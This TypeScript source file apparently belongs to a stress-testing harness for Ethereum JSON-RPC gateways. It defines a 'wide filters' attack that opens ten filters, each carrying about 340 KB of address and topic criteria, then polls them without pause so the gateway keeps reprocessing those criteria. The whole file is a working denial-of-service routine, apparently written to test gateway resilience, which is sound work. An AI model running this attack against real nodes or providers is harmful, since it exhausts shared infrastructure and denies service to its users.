// Filters with as many criteria as a filter may have, 340 KB each, polled over and over: a gateway that wrote the criteria
// with each poll would write tens of megabytes a second.
import { createHash } from "node:crypto";
import type { Attack, AttackTarget } from "./attack.ts";
import { answerTo, callBytes, overAndOver } from "./sockets.ts";

const FILTERS = 10;
const AT_ONCE = 4;
const ALTERNATIVES = 1_000;

export const wideFilters: Attack = {
  name: "wide filters",
  run: async (target, signal) => {
    const ids = await Promise.all(
      Array.from({ length: FILTERS }, (_, at) => open(target, at, signal)),
    );
    const known = ids.filter((id) => id !== undefined);
    await overAndOver(AT_ONCE, signal, (turn) =>
      answerTo(
        target,
        callBytes(target, "eth_getFilterChanges", [known[turn % FILTERS] ?? "0x0"]),
        signal,
      ),
    );
    // The attack's own signal has ended: the filters are taken away so that rounds do not add up.
    const ending = AbortSignal.timeout(5_000);
    await Promise.all(
      known.map((id) => answerTo(target, callBytes(target, "eth_uninstallFilter", [id]), ending)),
    );
  },
};

/** @returns The filter's id; undefined when it was refused. */
async function open(
  target: AttackTarget,
  at: number,
  signal: AbortSignal,
): Promise<string | undefined> {
  const word = (which: number): string =>
    `0x${createHash("sha256").update(`${at} ${which}`).digest("hex")}`;
  const words = (from: number): string[] =>
    Array.from({ length: ALTERNATIVES }, (_, index) => word(from + index));
  const topics = [0, 1, 2, 3].map((place) => words(place * ALTERNATIVES));
  const address = words(9 * ALTERNATIVES).map((each) => each.slice(0, 42));
  const text = await answerTo(
    target,
    callBytes(target, "eth_newFilter", [{ address, topics }]),
    signal,
  );
  return /"result":"(0x[0-9a-f]+)"/.exec(text)?.[1];
}
